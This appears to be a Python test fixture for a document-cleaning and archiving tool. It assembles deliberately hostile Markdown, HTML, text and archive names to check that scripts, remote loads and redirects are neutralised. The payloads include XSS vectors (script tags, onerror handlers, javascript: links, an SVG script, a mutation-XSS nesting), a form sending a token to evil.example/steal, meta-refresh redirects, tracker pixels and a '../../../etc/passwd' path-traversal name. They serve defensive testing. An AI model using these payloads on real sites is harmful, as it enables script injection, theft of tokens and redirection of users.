"""Documents that try to run scripts, to load things, and to lead away; `hacked` is set where one succeeds."""

from __future__ import annotations

from pathlib import Path

import cleaner
from cleaner.archive import settings
from cleaner.model import Article, Block, Line, Mark, Removal, Result, Source

SCRIPT = "<script>window.hacked=1</script>"
BREAK_OUT = "\"'><img src=x onerror=window.hacked=1>"
NAME = f"a{BREAK_OUT.replace('/', '')}.warc.gz"

MARKDOWN = """\
# A title <script>window.hacked=1</script>

Press [here](javascript:window.hacked=1) or [there](data:text/html,<script>hacked=1</script>) or
[upwards](../../overview) or [not](vbscript:x "title' onclick='window.hacked=1"), and <img src=x onerror=hacked=1>.

![an image](https://tracker.example/pixel.png)

<iframe src="https://evil.example/"></iframe>

<sub onclick="window.hacked=1">low</sub> and <sub>lower</sub>.
"""

PAGE = """\
<!doctype html><html><head><title>Free cake</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/gone">
<base href="https://evil.example/">
<link rel="dns-prefetch" href="//tracker.example"><link rel="preconnect" href="https://tracker.example">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/y.css); body { background: url(https://tracker.example/bg.png) }</style>
<script>window.top.hacked = 1; location = 'https://evil.example/'</script></head>
<body onload="window.top.hacked=1"><article>
<h1>A cake that nobody baked</h1>
<p>There is a long story about a cake here, and it is told in whole sentences, as stories are in newspapers.</p>
<p>The cake was eaten before anybody could say who had made it, and the plate was returned on the following day.</p>
<img src="https://tracker.example/p.gif" onerror="top.hacked=1"><img src=x onerror="top.hacked=1">
<svg><script>top.hacked=1</script><a xlink:href="javascript:top.hacked=1"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.hacked=1"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/steal"><input name="token"><button>Next</button></form>
<a href="javascript:top.hacked=1">click</a> <a href="https://evil.example/" target="_top">leave</a>
<video src="https://tracker.example/v.mp4" autoplay></video>
<p style="background: url(https://tracker.example/s.png)">A last sentence with a picture behind it.</p>
</article></body></html>
"""


def archive(folder: Path) -> Path:
    """An archive of them, with a hostile name."""
    path = folder / NAME
    evil_url = "https://evil.example/<script>window.hacked=1</script>?\"'onmouseover=hacked=1"
    sources = (
        Source("a.md", MARKDOWN.encode(), media_type="text/markdown", url="https://evil.example/md", date="2024-01-01"),
        Source("b.html", PAGE.encode(), media_type="text/html", url=evil_url, date="2024-01-02"),
        Source("c.txt", f"{SCRIPT}\n\n{BREAK_OUT}\n".encode(), url="javascript:window.hacked=1//", date="2024-01-03"),
        Source("../../../etc/passwd", b"A harmless text of one line.\n", path="../../../etc/passwd", date="2024-01-04"),
    )
    with cleaner.Archive.open(path, "a", settings=settings("2024-09-01T12:00:00Z")) as made:
        for source in sources:
            made.add(cleaner.clean(source))
        made.add(_named(f"ad.{BREAK_OUT}"))
        made.add(_named(f"{SCRIPT}.x"))
    return path


def _named(rule: str) -> Result:
    """A result whose rule's name is hostile, and whose mark and language are."""
    text = "Kept, and long enough to be a line of an article in its own right."
    data = f"Gone {rule}\n{text}\n".encode()
    lines = (Line(1, f"Gone {rule}"), Line(2, text))
    source = Source("d.txt", data, media_type="text/plain", url=f"https://evil.example/{len(rule)}", date="2024-01-05")
    return Result(
        article=Article(source, lines, decoding=BREAK_OUT, language=BREAK_OUT),
        removals=(Removal(1, 0, len(lines[0].text), rule, SCRIPT),),
        blocks=(Block("paragraph", text, (2,), marks=(Mark(0, 4, "link", "javascript:window.hacked=1"),)),),
        notes=(SCRIPT, BREAK_OUT),
        rule_set="0123456789abcdef",
    )
